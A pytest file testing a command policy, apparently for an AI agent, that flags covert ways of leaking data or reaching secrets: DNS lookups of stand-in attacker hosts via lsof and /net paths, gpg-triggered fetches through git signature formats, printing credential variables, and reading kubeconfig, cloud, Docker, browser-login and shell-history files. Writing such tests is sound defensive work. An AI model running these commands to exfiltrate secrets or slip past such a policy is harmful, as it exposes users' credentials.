"""Review DR: data leaving the machine, or secrets reaching the agent, through allowed
lines.

DR1 `lsof -i @HOST` resolves the host (a DNS query carries the data); DR2 a signature
format from git's configuration (`format.pretty`, `pretty.NAME`) runs gpg, whose gpgsm
fetches the CRL an attacker's certificate names; DR3 an automounter's `/net/HOST`; DR4
a variable whose value is plainly a credential; DR5 credential files the environment
moves (`KUBECONFIG` …); DR6 more standard places of secrets, histories and browser data;
DR7 BSD's `ps -E`."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from realrun import copy_workspace, git_ok

from policylang import Verdict, load_policy


def _env(tmp_path: Path, **more: str) -> dict[str, str]:
    return {"HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin", **more}


def _decide(line: str, workspace: Path, env: dict[str, str]) -> Verdict:
    return load_policy().evaluate(line, workspace=str(workspace), env=env).verdict


@pytest.mark.parametrize(
    ("line", "verdict"),
    [("lsof -i @x.evil.example.com", Verdict.ASK), ("lsof -n -i@bad.cafe:80", Verdict.ASK),
     ("lsof -i :8080", Verdict.ALLOW), ("lsof -i @127.0.0.1:22", Verdict.ALLOW),
     ("lsof -i '@[::1]:22'", Verdict.ALLOW), ("ps -E", Verdict.ASK),
     ("ps -axEww -o command", Verdict.ASK), ("ps aux", Verdict.ALLOW), ("ps -ef", Verdict.ALLOW)],
)  # fmt: skip
def test_dr1_dr7_lsof_hosts_and_ps_environments(
    tmp_path: Path, line: str, verdict: Verdict
) -> None:
    workspace = copy_workspace(tmp_path)
    assert _decide(line, workspace, _env(tmp_path)) is verdict


def test_dr1_lsof_really_resolves_a_host_name(tmp_path: Path) -> None:
    if shutil.which("lsof") is None or shutil.which("strace") is None:
        pytest.skip("`lsof` or `strace` is not installed (scripts/system-deps.sh installs them)")
    traced = subprocess.run(
        ["strace", "-f", "-s", "256", "-e", "trace=sendto,sendmmsg,write", "lsof", "-n", "-i",
         "@dr1-probe.invalid"],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    # the name the line chose goes to the resolver (a DNS query: `\tdr1-probe\7invalid`)
    assert "dr1-probe" in traced.stderr


@pytest.mark.parametrize(
    "setting", ["[format]\n\tpretty = %h %G? %s\n", "[pretty]\n\tsig = %h %GS\n",
                "[log]\n\tshowSignature = true\n"],
)  # fmt: skip
def test_dr2_a_configured_signature_format(tmp_path: Path, setting: str) -> None:
    workspace = copy_workspace(tmp_path)
    git_ok(workspace, "init", "-q")
    env = _env(tmp_path)
    assert _decide("git log", workspace, env) is Verdict.ALLOW
    with (workspace / ".git" / "config").open("a") as config:
        config.write(setting)
    assert _decide("git log", workspace, env) is Verdict.ASK
    # the user's own global setting too: the repository's commits choose what is verified
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (tmp_path / "home" / ".gitconfig").write_text(setting)
    assert _decide("git log", workspace, env) is Verdict.ASK
    (tmp_path / "home" / ".gitconfig").write_text("[format]\n\tpretty = %h %s\n")
    assert _decide("git log", workspace, env) is Verdict.ALLOW


def test_dr3_an_automounters_host_folder_is_not_looked_up(tmp_path: Path) -> None:
    workspace = copy_workspace(tmp_path)
    for line in ("ls /net/evil.example.com", "stat /net/x.evil.example.com/y"):
        assert _decide(line, workspace, _env(tmp_path)) is Verdict.ASK, line


def test_dr4_a_credential_by_its_value(tmp_path: Path) -> None:
    workspace = copy_workspace(tmp_path)
    env = _env(
        tmp_path, HTTPS_PROXY="http://alice:ProxyPw1@proxy.corp:3128",
        REDIS_URL="redis://:S3cretPw@cache:6379", GITHUB_PAT="ghp_FAKE123",
        TOKENISH="ghp_" + "a" * 36, HTTP_PROXY="http://proxy.corp:3128",
    )  # fmt: skip
    for line in ("printenv HTTPS_PROXY", "echo $REDIS_URL", "echo $GITHUB_PAT", "echo $TOKENISH"):
        assert _decide(line, workspace, env) is Verdict.ASK, line
    for line in ("printenv HTTP_PROXY", "echo $HOME"):
        assert _decide(line, workspace, env) is Verdict.ALLOW, line


def test_dr5_credential_files_the_environment_moves(tmp_path: Path) -> None:
    workspace = copy_workspace(tmp_path)
    home = tmp_path / "home"
    (home / "clusters").mkdir()
    (home / "clusters" / "prod.yaml").write_text("token: x\n")
    env = _env(
        tmp_path, KUBECONFIG=f"{home}/clusters/prod.yaml:{home}/k2",
        DOCKER_CONFIG=f"{home}/dcfg", GH_CONFIG_DIR=f"{home}/xdg/gh",
        AWS_SHARED_CREDENTIALS_FILE=f"{home}/.awsalt/creds",
    )  # fmt: skip
    for line in (f"cat {home}/clusters/prod.yaml", f"cat {home}/dcfg/config.json",
                 f"cat {home}/xdg/gh/hosts.yml", f"cat {home}/.awsalt/creds",
                 f"grep -r token {home}/clusters", f"cat {home}/clusters/*"):  # fmt: skip
        assert _decide(line, workspace, env) is Verdict.DENY, line
    for line in (f"cat {home}/dcfg/other.json", f"ls {home}/clusters"):
        assert _decide(line, workspace, env) is Verdict.ALLOW, line
    assert _decide(f"cat {home}/clusters/prod.yaml", workspace, _env(tmp_path)) is Verdict.ALLOW


@pytest.mark.parametrize(
    ("path", "verdict"),
    [("snap/firefox/common/.mozilla/firefox/a.default/cookies.sqlite", Verdict.ASK),
     (".var/app/org.mozilla.firefox/.mozilla/firefox/x/logins.json", Verdict.ASK),
     (".thunderbird/p.default/logins.json", Verdict.ASK), (".histfile", Verdict.ASK),
     (".zsh_sessions/A.history", Verdict.ASK), (".mc/config.json", Verdict.DENY),
     (".config/openstack/clouds.yaml", Verdict.DENY), (".jfrog/jfrog-cli.conf.v6", Verdict.DENY),
     (".docker/contexts/tls/a/docker/key.pem", Verdict.DENY),
     (".local/share/mkcert/rootCA-key.pem", Verdict.DENY)],
)  # fmt: skip
def test_dr6_more_standard_places(tmp_path: Path, path: str, verdict: Verdict) -> None:
    workspace = copy_workspace(tmp_path)
    assert _decide(f"cat ~/{path}", workspace, _env(tmp_path)) is verdict
